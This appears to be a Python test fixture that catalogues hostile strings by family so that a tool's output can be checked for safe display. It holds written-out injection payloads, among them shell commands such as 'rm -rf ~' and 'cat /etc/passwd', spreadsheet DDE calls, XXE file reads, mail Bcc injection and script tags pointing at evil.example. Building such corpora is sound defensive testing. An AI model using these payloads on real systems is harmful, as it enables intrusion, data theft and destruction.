"""Texts that mean harm to whatever shows them: terminals, spreadsheets, browsers, calendars, mail programs, Word and editors."""

from typing import NamedTuple

from tests.sizes import size

FAMILIES: dict[str, tuple[str, ...]] = {
    "terminal": (
        "\x1b[31;5mred", "\x1b[2J\x1b[H", "\x1b[1;1Hover the first line", "\x1b[8mconcealed", "\x1b[10A\x1b[2Kover the lines above",
        "\x1b]0;another title\x07", "\x1b]2;another title\x1b\\", "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
        "\x1b]52;c;cm0gLXJmIH4=\x07", "\x1bP+q544e\x1b\\", "\x1b]1337;File=inline=1:AAAA\x07", "\x1b[?1049h", "\x1b[6n", "\x1bc",
        "\x9b31mred", "\x9d0;another title\x9c", "\x90q\x9c", "bell\x07", "secret\b\b\b\b\b\bpublic", "over\rwritten", "\x7f\x7fgone",
        "a\x0b\x0cb", "\x0e\x0fshifted", "\x1a\x1c\x1d\x1e\x1f",
    ),
    "markup of Rich": (
        "[/]", "[bold red]x[/bold red]", "[link=file:///etc/passwd]x[/link]", ":smile: :skull:", "[@click=app.bell]x[/]", "[not a tag",
        "\\[bold]", "[conceal]x[/conceal]", "[/bold][/nothing]",
    ),
    "spreadsheets": (
        "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "\u00a0=1+1", "\u3000=1+1", "＝1+1", "＋1+1", "－1+1",
        "＠SUM(1)", '=HYPERLINK("https://evil.example","x")', "=cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"1")',
        '=WEBSERVICE("https://evil.example")', "'=1+1", '"=1+1', "x;=1+1", "x\t=1+1", "x|=1+1", 'x",=1+1', 'x"\n=1+1', "_x003D_1+1",
        "_x001B_[31m", "\u200b=1+1", "\ufeff=1+1", "﹢1+1", "−1+1",
    ),
    "pages": (
        "<script>alert(1)</script>", "</title><script>alert(1)</script>", "</style><script>alert(1)</script>", "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>", '" onmouseover="alert(1)', "' onfocus='alert(1)", "--><script>alert(1)</script>", "<!-- swallowed",
        "<![CDATA[x]]>", '<a href="javascript:alert(1)">x</a>', "javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "<iframe src=//evil.example>", '<base href="//evil.example">',
        '<meta http-equiv="refresh" content="0;url=//evil.example">', "<style>*{display:none}</style>", "}body{display:none}",
        "<plaintext>", "<textarea>", "</table></main></body>", "<?php x ?>", "＜script＞",
    ),
    "Markdown": (
        "[x](https://evil.example)", "![x](https://evil.example/x.png)", "<https://evil.example>", "https://evil.example", "www.evil.example",
        "x@evil.example", "[x]: https://evil.example", "[x][y]", "# heading", "x\n===", "x\n---", "- item", "+ item", "1. item",
        "1234. item", "123456789) item", "  - indented item", "\u00a0\u00a0- item", "```", "~~~", "    code", "\n\n\t\tcode", "`code`",
        "> quote", "***", "___", "- - -", "**bold** _it_ ~~gone~~", "<b>x</b>", "a | b | c", "|---|", "&copy; &#x1b;", "x  \ny", "\\",
        "[^1]: note", "- [ ] task", "$x$", "@everyone", ": definition",
    ),
    "calendars": (
        "x\r\nBEGIN:VALARM\r\nACTION:EMAIL\r\nATTENDEE:mailto:x@evil.example\r\nEND:VALARM", "x\r\nATTENDEE:mailto:x@evil.example",
        "x\nEND:VEVENT\nEND:VCALENDAR", ";VALUE=URI:https://evil.example", "x\r\n ATTACH:https://evil.example", 'a,b;c:d\\n\\,"q"^n',
        "x\\nATTENDEE:mailto:x@evil.example", "x\u2028ATTENDEE:mailto:x@evil.example", "x\x85ATTENDEE:mailto:x@evil.example",
    ),
    "mail": (
        "x\r\nBcc: x@evil.example", "x\nBcc: x@evil.example\n\nanother body", "=?utf-8?q?=0ABcc=3A_x=40evil.example?=",
        "Bell, Jo <x@evil.example>, y@evil.example", ".", "\r\n.\r\nMAIL FROM:<x@evil.example>", ".\n..\n.x", "From x", "x" * 1_500,
        "--===============0==\nContent-Type: text/html", "=20=3Cscript=3E",
    ),
    "templates": (
        "{{ 7*7 }}", "{% for x in range(9) %}x{% endfor %}", "{# gone #}", "{{ ''.__class__.__mro__ }}", "${7*7}", "<%= 7*7 %>", "#{7*7}",
        "{0} {name} {}", "%s %n %(x)s %%", "$(id) `id` ${HOME}", "{", "}}",
    ),
    "XML": (
        "&xxe;", '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', "]]>", "<w:t>x</w:t>", "</w:t></w:r><w:fldSimple w:instr='DDE'/>",
        "a\x01\x02\x08b", "\ufffe\uffff", "<f>1+1</f>", "</t></is></c><c><f>1+1</f></c>",
    ),
    "shells and SQL": (
        "'; DROP TABLE cases;--", '" OR 1=1 --', "x' UNION SELECT * FROM words--", "; rm -rf ~", "| cat /etc/passwd", "&& id", "$IFS",
        "-rf", "--help", "NEAR(a b)", '"unclosed', "a* OR b", "%_%",
    ),
    "file names": ("../../etc/passwd", "/etc/passwd", "..\\..\\x", "C:\\x", "CON", "file:///etc/passwd", "~root", "a/b", "x.toml/../y"),
    "what cannot be seen": (
        "abc\u202efdp.exe", "\u2067abc\u2069", "\u202d\u202a\u202bx\u202c", "\u2066x\u2068y", "\u200ex\u200f", "\u061cx", "pass\u200bword",
        "a\u200c\u200db", "a\u2060b\ufeffc", "\U000e0049\U000e0047\U000e004e\U000e004f\U000e0052\U000e0045\U000e007f", "soft\u00adhyphen",
        "a\u2028b\u2029c", "\ufdd0\ufdef\U0001fffe\U0010ffff", "x\u180ey", "a\u034fb", "\u115f\u1160\u3164\uffa0", "\ufff9x\ufffay\ufffb",
        "x\ufe00\ufe01\U000e0100\U000e01ef", "A\ufe0f\ufe0f", "\u206a\u206fx", "\U0001d173x\U0001d17a", "\U0001bca0x", "\ufff0x", "\u17b4\u17b5x",
    ),
    "what stands over its neighbours": ("Z" + "\u0336\u0348\u0353\u034d" * 12, "ก" + "\u0e47" * 40, "x" + "\u20dd" * 9, "ا" + "\u064b" * 20),
    "what is long": ("W" * 100_000, "a " * 20_000, "é" * 5_000, "/".join("ab" * 2_000)),
}  # fmt: skip

ONLY_IN_FILES = ("nul\0byte", "\0", "=1\0+1", "<scr\0ipt>alert(1)</script>", "x\0\r\nBcc: x@evil.example")
"""No word of a command line can hold a NUL: these come in by files and by standard input."""

NO_TEXT = (b"\xed\xa0\x80", b"\xff\xfe", b"\xc0\xafx", b"\x80\x9b31m", b"\xf4\x90\x80\x80")
"""Bytes that are no text in UTF-8: lone surrogates, overlong forms, C1 controls."""


class Payload(NamedTuple):
    """A hostile text; `mark` is its end, which has to be seen again wherever the text is shown: what is active swallows it."""

    family: str
    text: str
    mark: str

    def cut(self, most: int) -> str:
        """No longer than this, with its mark."""
        return self.text if len(self.text) <= most else f"{self.text[: most - len(self.mark)]}{self.mark}"


def _marked(family: str, texts: tuple[str, ...], first: int) -> list[Payload]:
    return [Payload(family, f"{text} K{n:03}K", f"K{n:03}K") for n, text in enumerate(texts, first)]


PAYLOADS: list[Payload] = []
for _family, _texts in FAMILIES.items():
    PAYLOADS += _marked(_family, _texts[: size(2, len(_texts))], len(PAYLOADS) + 1)
WITH_NUL = _marked("NUL", ONLY_IN_FILES, len(PAYLOADS) + 1)
